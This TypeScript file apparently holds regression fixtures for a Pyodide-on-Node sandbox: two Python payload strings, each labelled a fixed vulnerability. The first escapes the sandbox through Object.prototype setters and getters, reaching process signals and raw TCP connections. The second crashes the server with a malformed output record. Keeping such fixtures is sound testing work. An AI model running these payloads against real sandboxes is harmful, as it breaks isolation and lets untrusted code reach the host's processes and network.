/**
 * Inputs: `port` and `path`. A fixed vulnerability: accessors on `Object.prototype`, called by
 * Node's own code, gave access to TCP and signals.
 */
export const leavesSandbox = `import pyodide.webloop as w, asyncio
from pyodide.ffi import to_js, create_proxy
OP=w.scheduleCallback.__proto__.__proto__; O=OP.constructor; got={}
def setter(this, value):
    got["req"]=this; got["handle"]=value
    del OP.handle
    this.handle=value
OP.__defineSetter__("handle", create_proxy(setter, capture_this=True))
OP.toJSON=O.fromEntries.bind(None, to_js([["type","output"],["stream","stdout"],["text",""]]))
async def later():
    await asyncio.sleep(0.3)
    del OP.toJSON
    h=got["handle"]; W=got["req"].constructor
    # Unix socket: p=h.constructor.new(0); r=W.new(); r.oncomplete=create_proxy(lambda *a: None); p.connect(r,"/path/of.sock")
    syms=O.getOwnPropertySymbols(h)
    own=[O.getOwnPropertyDescriptor(h,syms[i]).value for i in range(syms.length) if syms[i].description=="owner_symbol"][0]
    B=to_js([b"abc"]).map(own.constructor._uint8ArrayToBuffer).map(O.getPrototypeOf)[0].constructor
    OP.__defineGetter__("noDeprecation", create_proxy(lambda this,*a: got.__setitem__("p",this), capture_this=True))
    w.scheduleCallback(B.bind(None,5), 20)          # Buffer(5) without new, from a timer: emitWarning
    await asyncio.sleep(0.3); OP.__delattr__("noDeprecation")
    p=got["p"]; print(p.pid, p.ppid, p.kill(p.ppid,0))
    s=p.getBuiltinModule("net").Server.new(); s._listen2("127.0.0.1",0,4,1)
    t=s._handle.constructor.new(0); s._handle.close()
    r=W.new(); r.oncomplete=create_proxy(lambda *a: None); print("connect", t.connect(r,"127.0.0.1",inputs["port"]))
    await asyncio.sleep(0.4)
    t.onread=create_proxy(lambda this,b=None,*a: print(bytes(b.to_py()) if b else b), capture_this=True)
    q=W.new(); q.oncomplete=create_proxy(lambda *a: None); q.handle=t
    t.writeUtf8String(q,f"GET {inputs['path']} HTTP/1.1\\r\\nHost: 127.0.0.1:{inputs['port']}\\r\\nConnection: close\\r\\n\\r\\n"); t.readStart()
    await asyncio.sleep(1)
asyncio.ensure_future(later())
return 1`;

/** A fixed vulnerability: its process wrote a line without text, which crashed the server. */
export const endsServer = `import pyodide.webloop as w
from pyodide.ffi import to_js
OP=w.scheduleCallback.__proto__.__proto__
OP.toJSON=OP.constructor.fromEntries.bind(None, to_js([["type","output"],["stream","stdout"]]))   # no text
print("hello")
return 1`;
